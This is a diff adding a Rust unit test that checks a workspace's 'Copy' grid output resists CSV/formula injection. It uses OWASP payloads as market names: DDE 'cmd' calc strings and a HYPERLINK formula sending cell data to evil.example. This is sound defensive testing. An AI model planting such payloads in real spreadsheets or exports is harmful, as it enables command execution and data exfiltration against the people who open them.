@@ -637,3 +637,67 @@ proptest! {
         let _ = parse_month(&text);
     }
 }
+
+/// Market names carrying OWASP's CSV-injection payloads: "Copy" puts no cell on the
+/// clipboard that a spreadsheet would run, split at tabs or at line breaks, and the
+/// copy pastes back to the same markets and values.
+#[test]
+fn the_copied_grid_runs_no_formula_in_a_spreadsheet_and_pastes_back() {
+    let mut ws = workspace();
+    let names = [
+        "=cmd|' /C calc'!A0",
+        "x;=cmd|' /C calc'!A0;",
+        "@SUM(1+9)*cmd|' /C calc'!A0",
+        "-2+3+cmd|' /C calc'!A0",
+        "Brazil\n=HYPERLINK(\"http://evil.example?\"&A1)",
+        "Korea, Republic of\t+1",
+    ];
+    for (market, name) in ws.markets.iter_mut().zip(names) {
+        market.name = name.to_owned();
+    }
+    let months: Vec<Month> = (0..2).map(|k| m("2026-01").plus(k).unwrap()).collect();
+    let markets: Vec<Id> = MARKETS.iter().map(|(i, _)| id(i)).collect();
+    let cells: Vec<(Id, Month, Option<f64>)> = markets
+        .iter()
+        .flat_map(|market| {
+            months
+                .iter()
+                .map(|month| (market.clone(), *month, Some(-1234.5)))
+        })
+        .collect();
+    metrics::set_values(&mut ws, &id("p-1"), "users", &cells, now()).unwrap();
+    let p = &ws.partners[0];
+    let text = grid_text(&ws, p, "users", &markets, &months);
+
+    // Split as a spreadsheet's paste does (tabs, quotes honoured) and as a naive one
+    // does (every tab and line break); a number such as -1,234.5 is a value, not a formula.
+    for quotes in [true, false] {
+        let mut cell = String::new();
+        let mut cells = Vec::new();
+        let (mut quoted, mut at_start) = (false, true);
+        for c in text.chars() {
+            match c {
+                '"' if quotes && (quoted || at_start) => quoted = !quoted,
+                '\t' | '\n' | '\r' if !quoted => {
+                    cells.push(std::mem::take(&mut cell));
+                    at_start = true;
+                    continue;
+                }
+                c => cell.push(c),
+            }
+            at_start = false;
+        }
+        cells.push(cell);
+        for cell in cells {
+            let number = cell.replace(',', "").parse::<f64>().is_ok();
+            assert!(
+                number || !cell.starts_with(['=', '+', '-', '@']),
+                "a paste reads a formula: {cell:?} (quotes honoured: {quotes})"
+            );
+        }
+    }
+    let preview = parse_paste(&ws, p, "users", &text).unwrap();
+    assert!(preview.bad.is_empty(), "{:?}", preview.bad);
+    assert_eq!(preview.cells.len(), cells.len());
+    assert_eq!(preview.changes(), 0);
+}
